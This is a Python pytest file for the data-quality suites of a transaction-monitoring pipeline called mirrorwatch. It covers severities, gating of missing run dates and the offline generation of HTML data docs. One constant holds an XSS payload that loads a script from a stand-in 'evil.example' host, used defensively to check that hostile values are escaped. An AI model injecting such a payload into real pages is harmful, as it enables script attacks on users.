"""The quality suites: complete, reasoned, run over a night, and published without asking any network."""

import re
import subprocess
import sys
import tomllib
from collections.abc import Iterable, Iterator
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from importlib import import_module
from pathlib import Path
from typing import TYPE_CHECKING, Any

import polars as pl
import pytest
from tests.intake_worlds import DAY_BEFORE, RUN_DATE, World, booking, frame, fx_rates, run

from mirrorwatch.config import Gates
from mirrorwatch.contract import ALERTS, CASES, DATASETS, QUALITY
from mirrorwatch.intake.summary import StageSummary, read_summary
from mirrorwatch.night.gating import faults
from mirrorwatch_suites.batches import Batch, daily, input_batches
from mirrorwatch_suites.results import quality_rows
from mirrorwatch_suites.runner import assess, assess_outputs

if TYPE_CHECKING:
    import great_expectations as gx

INPUTS = tuple(dataset.name for dataset in DATASETS)
ACROSS = (
    "transactions_accounts", "transactions_parties", "transactions_fx_rates", "transactions_control_totals",
    "accounts_parties", "ownership_parties", "trade_documents_parties",
)  # fmt: skip
LEDGER = ("completeness", "completeness_days")
SUITES = (*INPUTS, *ACROSS, *LEDGER, "alerts", "cases")
HOSTILE = "<img src=x onerror=alert(1)><script src='http://evil.example/x.js'></script>"


def _suite(name: str) -> "gx.ExpectationSuite":
    suite: gx.ExpectationSuite = import_module(f"mirrorwatch_suites.{name}").suite()
    return suite


@pytest.mark.parametrize("name", SUITES)
def test_every_expectation_has_a_severity_and_a_reason(name: str) -> None:
    suite = _suite(name)
    assert suite.name == name
    assert suite.expectations
    for expectation in suite.expectations:
        assert expectation.severity in {"critical", "warning", "info"}
        reason = (expectation.meta or {})["reason"]
        assert reason[0].isupper()
        assert reason.endswith(".")
        assert len(reason) >= 20


@pytest.mark.parametrize("name", INPUTS)
def test_suites_name_only_columns_of_the_contract(name: str) -> None:
    dataset = next(dataset for dataset in DATASETS if dataset.name == name)
    known = {*dataset.schema, "booking_date", "booked_on"}
    for expectation in _suite(name).expectations:
        given = expectation.configuration.kwargs
        named = {given[key] for key in ("column", "column_A", "column_B") if key in given}
        assert named | set(given.get("column_list", [])) <= known


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the work folder of a sound night with every dataset of the contract, assessed."""
    folder = tmp_path_factory.mktemp("sound")
    world = World(folder / "data", days=dict(_days()))
    world.datasets |= {
        "fx_rates": pl.concat([fx_rates(), fx_rates().with_columns(rate_date=pl.lit(RUN_DATE))]),
        "ownership": _ownership(),
        "watchlist": pl.DataFrame({"entry_id": ["E1"], "list_name": ["SDN"], "name": ["N"], "aliases": [["a", "b"]]}),
        "trade_documents": _trade_documents(),
        "control_totals": _control_totals(),
    }
    return run(world.write()).work


def _days() -> Iterator[tuple[date, pl.DataFrame]]:
    for back in range(5):
        day = RUN_DATE - timedelta(days=back)
        yield day, frame(*(booking(back * 100 + number, day) for number in range(1, 30)))


def _control_totals() -> pl.DataFrame:
    days = [RUN_DATE - timedelta(days=back) for back in range(6)]  # one outside the window
    totals = [Decimal(sum(back * 100 + number for number in range(1, 30))) for back in range(6)]
    return pl.DataFrame({"booking_date": days, "currency": "USD", "row_count": 29, "total_amount": totals})


def _ownership() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "owner_party_id": ["P1", "P1"],
            "owned_party_id": ["P2", "P3"],
            "role": ["shareholder", "director"],
            "share": [1.0, None],
            "since": [date(2020, 1, 1)] * 2,
            "until": pl.Series([None, None], dtype=pl.Date),
        }
    )


def _trade_documents() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "document_id": ["D1"],
            "issued_on": [RUN_DATE],
            "exporter_party_id": ["P2"],
            "importer_party_id": ["P3"],
            "origin_country": ["MX"],
            "destination_country": ["US"],
            "hs_code": ["8517"],
            "declared_value_usd": [Decimal("10.00")],
            "parcels": [3],
        }
    )


@pytest.fixture(scope="module")
def quality(sound: Path) -> pl.DataFrame:
    return assess(sound)


def test_a_sound_night_fails_nothing_that_matters(quality: pl.DataFrame) -> None:
    assert quality.schema == QUALITY
    assert set(quality["dataset"]) == {*INPUTS, *ACROSS, *LEDGER}
    assert quality.filter(~pl.col("success"), pl.col("severity") != "info").is_empty()


def test_the_quality_table_is_in_one_order_and_the_same_each_time(sound: Path, quality: pl.DataFrame) -> None:
    assert quality.unique().height == quality.height
    assert assess(sound).equals(quality)


def test_data_docs_ask_no_network_and_run_no_script(sound: Path, quality: pl.DataFrame) -> None:
    pages = sorted((sound / "data_docs").rglob("*.html"))
    assert len(pages) == 1 + 2 * quality["dataset"].n_unique()
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"https?://(?!greatexpectations\.io)", text)
        assert not re.search(r"<(script|link|img|iframe|object)\b|\son\w+=", text, re.IGNORECASE)
        assert "default-src 'none'" in text
        for target in re.findall(r'href="([^"#]+)', text):
            assert (page.parent / target).exists(), (page, target)
    assert not [path for path in (sound / "data_docs").rglob("*") if path.is_file() and path.suffix != ".html"]


def _broken(tmp_path: Path, rows: list[dict[str, Any]]) -> pl.DataFrame:
    staged = run(
        World(tmp_path / "data", days={RUN_DATE: frame(*(booking(n, **row) for n, row in enumerate(rows, 1)))}).write()
    )
    return assess(staged.work)


def test_what_is_wrong_is_counted_as_it_was_read(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [{} for _ in range(16)] + [{"currency": "usd"}] * 3 + [{"amount": Decimal(-1)}]
    found = _broken(tmp_path, rows).filter(~pl.col("success"), dataset="transactions")
    told = found.select("column", "severity", "unexpected_count", "unexpected_fraction").rows()
    assert told == [("currency", "critical", 3, 0.15), ("amount", "warning", 1, 0.05), ("currency", "warning", 3, 0.15)]
    assert found["observed"].to_list() == ["3 of 20 rows, where 5 % may", "1 of 20 rows", "3 of 20 rows"]


def test_hostile_values_do_not_reach_data_docs(tmp_path: Path) -> None:
    _broken(tmp_path, [{"currency": HOSTILE, "channel": HOSTILE, "transaction_id": HOSTILE}] * 3)
    for page in (tmp_path / "data-work/data_docs").rglob("*.html"):
        assert "evil.example" not in page.read_text(encoding="utf-8")


def test_a_run_date_that_was_not_delivered_is_critical(tmp_path: Path) -> None:
    world = World(tmp_path / "data", days={DAY_BEFORE: frame(booking(1, DAY_BEFORE))})
    found = assess(run(world.write()).work).filter(~pl.col("success"), severity="critical")
    assert found.select("dataset", "expectation").rows() == [("transactions", "expect_table_row_count_to_be_between")]


def _empty_run_date(days: Iterable[date]) -> StageSummary:
    """Make a window of five weeks that ends with a run date without bookings; only `days` have some."""
    first = RUN_DATE - timedelta(days=34)
    window = {first + timedelta(days=number) for number in range(35)}
    return StageSummary(
        run_date=RUN_DATE, first_date=first, datasets={}, days_without_rows=tuple(sorted(window - set(days)))
    )


def _days_but(weekday: int, *, since: int = 34) -> list[date]:
    days = [RUN_DATE - timedelta(days=number) for number in range(1, since + 1)]
    return [day for day in days if day.weekday() != weekday]


@pytest.mark.parametrize(
    ("days", "quiet"),
    [
        (_days_but(RUN_DATE.weekday()), True),
        (_days_but(RUN_DATE.weekday(), since=22), True),
        (_days_but(RUN_DATE.weekday(), since=20), False),  # two such weekdays since the source began
        ([*_days_but(RUN_DATE.weekday()), RUN_DATE - timedelta(days=14)], False),
        (_days_but((RUN_DATE.weekday() + 1) % 7), False),
        ([], False),
    ],
)
def test_only_a_weekday_that_was_always_empty_is_quiet(days: list[date], quiet: bool) -> None:
    assert _empty_run_date(days).quiet_weekday is quiet


def test_a_run_date_on_which_the_source_never_books_is_a_warning(tmp_path: Path) -> None:
    days = [day for day in _days_but(RUN_DATE.weekday()) if day != DAY_BEFORE]
    bookings = {day: frame(booking(number, day)) for number, day in enumerate([*days, DAY_BEFORE], 1)}
    staged = run(World(tmp_path / "data", days=bookings).write(), lookback_days=35)
    found = assess(staged.work).filter(~pl.col("success"), dataset="transactions")
    assert found.select("severity", "expectation").rows() == [("warning", "expect_table_row_count_to_be_between")]
    assert list(faults(found, read_summary(staged.work), Gates())) == []


def test_the_gate_of_a_run_date_without_bookings_says_what_to_set(tmp_path: Path) -> None:
    staged = run(World(tmp_path / "data", days={DAY_BEFORE: frame(booking(1, DAY_BEFORE))}).write())
    (sentence,) = faults(assess(staged.work), read_summary(staged.work), Gates())
    assert "unless it is a holiday" in sentence
    setting = 'gates.accepted = ["transactions.expect_table_row_count_to_be_between"]'
    assert setting in sentence
    accepted = tomllib.loads(setting)["gates"]["accepted"]
    assert list(faults(assess(staged.work), read_summary(staged.work), Gates(accepted=accepted))) == []


def test_a_dataset_that_is_present_but_empty_can_be_assessed(tmp_path: Path) -> None:
    world = World(tmp_path / "data")
    world.datasets |= {"ownership": _ownership().clear(), "trade_documents": _trade_documents().clear()}
    found = assess(run(world.write()).work)
    assert {"ownership", "trade_documents"} <= set(found["dataset"])
    assert found.filter(dataset="ownership")["success"].all()


def test_every_row_of_the_run_date_is_looked_at(tmp_path: Path) -> None:
    work = run(World(tmp_path / "data", days=dict(_days())).write()).work
    batch = next(batch for batch in input_batches(work, read_summary(work)) if batch.dataset == "transactions")
    assert batch.rows.select(pl.len()).collect().item() == 29
    told = assess(work).filter(dataset="transactions", column="amount")["observed"]
    assert told.str.starts_with("0 of 29 rows").all()


def test_the_ledger_is_summed_by_day_for_its_suite(sound: Path) -> None:
    ledger = pl.read_parquet(sound / "completeness/*.parquet").filter(pl.col("booking_date") != DAY_BEFORE)
    days = daily(ledger, read_summary(sound))
    assert days["rows_read"].to_list() == [29, 29, 29, 0, 29]
    assert days.filter(booking_date=DAY_BEFORE).select("rejected_fraction", "volume_ratio").row(0) == (None, 0.0)


def test_a_suite_that_cannot_be_evaluated_is_our_fault_not_the_datas() -> None:
    from mirrorwatch_suites import runner

    broken = Batch("cases", pl.LazyFrame({"case_id": ["c"]}))
    with pytest.raises(RuntimeError, match="suite cases was not evaluated"):
        quality_rows(
            broken, runner._validate(runner._context(), broken, {"run_date": datetime.combine(RUN_DATE, time())})
        )


def test_the_nights_alerts_and_cases_can_be_assessed(sound: Path) -> None:
    for name, schema in (("alerts", ALERTS), ("cases", CASES)):
        (sound / name).mkdir()
        pl.DataFrame(schema=schema).write_parquet(sound / name / "part-0.parquet")
    found = assess_outputs(sound)
    assert set(found["dataset"]) == {"alerts", "cases"}
    assert found["success"].all()


def test_great_expectations_is_imported_late() -> None:
    code = "import sys, mirrorwatch_suites.runner; sys.exit('great_expectations' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
